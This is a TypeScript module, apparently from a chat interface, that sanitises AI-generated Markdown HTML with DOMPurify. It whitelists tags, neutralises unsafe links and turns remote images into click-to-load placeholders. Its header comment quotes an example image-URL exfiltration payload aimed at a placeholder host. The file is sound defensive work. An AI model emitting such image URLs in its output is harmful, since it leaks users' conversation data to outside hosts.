import DOMPurify from 'dompurify';

/**
 * Model output is untrusted: everything marked renders goes through this one DOMPurify instance
 * before it reaches the DOM, and nothing edits the HTML afterwards (edits after sanitising can
 * undo it). Only the elements Markdown produces are allowed; links open in a new tab without an
 * opener or a referrer; `javascript:`/`data:` links lose their target; a remote image becomes a
 * placeholder with a "load image" button, because an image URL is a way to send the conversation
 * to another host (`![](https://host/?q=secret)`); this site's own images wait for consent too, as
 * the model chose them.
 */
const purify = DOMPurify(window);

const allowedTags = [
  'a',
  'b',
  'blockquote',
  'br',
  'button',
  'code',
  'del',
  'div',
  'em',
  'h1',
  'h2',
  'h3',
  'h4',
  'h5',
  'h6',
  'hr',
  'i',
  'img',
  'input',
  'kbd',
  'li',
  'ol',
  'p',
  'pre',
  's',
  'span',
  'strong',
  'sub',
  'sup',
  'table',
  'tbody',
  'td',
  'th',
  'thead',
  'tr',
  'ul',
];
const allowedAttributes = [
  'href',
  'src',
  'alt',
  'title',
  'class',
  'start',
  'type',
  'checked',
  'disabled',
  'align',
  'colspan',
  'rowspan',
  'aria-label',
  'data-copy-code',
  'data-load-image',
];

purify.addHook('afterSanitizeAttributes', (node) => {
  if (!(node instanceof Element)) return;
  switch (node.nodeName) {
    case 'A':
      guardLink(node);
      break;
    case 'IMG':
      guardImage(node);
      break;
    case 'PRE':
    case 'TABLE':
      // Wide code and tables scroll sideways: keyboard users reach them with Tab and scroll with the arrows.
      node.setAttribute('tabindex', '0');
      break;
    case 'INPUT':
      // GFM task lists render checkboxes; any other input is not Markdown.
      if (node.getAttribute('type') !== 'checkbox') node.remove();
      else node.setAttribute('disabled', '');
      break;
  }
});

function guardLink(link: Element): void {
  const href = link.getAttribute('href');
  if (href !== null && !/^(?:https?:|mailto:|#|\/(?!\/)|\.{0,2}\/)/i.test(href.trim())) {
    link.removeAttribute('href');
  }
  link.setAttribute('target', '_blank');
  link.setAttribute('rel', 'noopener noreferrer');
}

function guardImage(image: Element): void {
  const src = image.getAttribute('src');
  const url = src === null ? null : safeUrl(src);
  const doc = image.ownerDocument;
  const holder = doc.createElement('span');
  holder.className = 'remote-image';
  const alt = image.getAttribute('alt')?.trim();
  if (url && /^https?:$/.test(url.protocol)) {
    const button = doc.createElement('button');
    button.type = 'button';
    button.setAttribute('data-load-image', url.href);
    button.textContent = `Load image from ${url.host}`;
    holder.textContent = alt ? `Image: ${alt} ` : 'Image not loaded ';
    holder.append(button);
  } else {
    holder.textContent = alt ? `Image: ${alt} (not shown)` : 'Image not shown';
  }
  image.replaceWith(holder);
}

function safeUrl(value: string): URL | null {
  try {
    return new URL(value, location.href);
  } catch {
    return null;
  }
}

export type SafeHtml = ReturnType<typeof sanitize>;

/** HTML that is safe to assign to innerHTML (a TrustedHTML where the browser has Trusted Types). */
export function sanitize(html: string) {
  return purify.sanitize(html, {
    ALLOWED_TAGS: allowedTags,
    ALLOWED_ATTR: allowedAttributes,
    ALLOW_DATA_ATTR: false,
    ALLOW_ARIA_ATTR: false,
    RETURN_TRUSTED_TYPE: true,
  });
}

/** The URL a "load image" button carries, checked again at click time (the button is model output too). */
export function imageUrlToLoad(value: string | undefined): string | null {
  if (!value) return null;
  const url = safeUrl(value);
  return url && /^https?:$/.test(url.protocol) ? url.href : null;
}
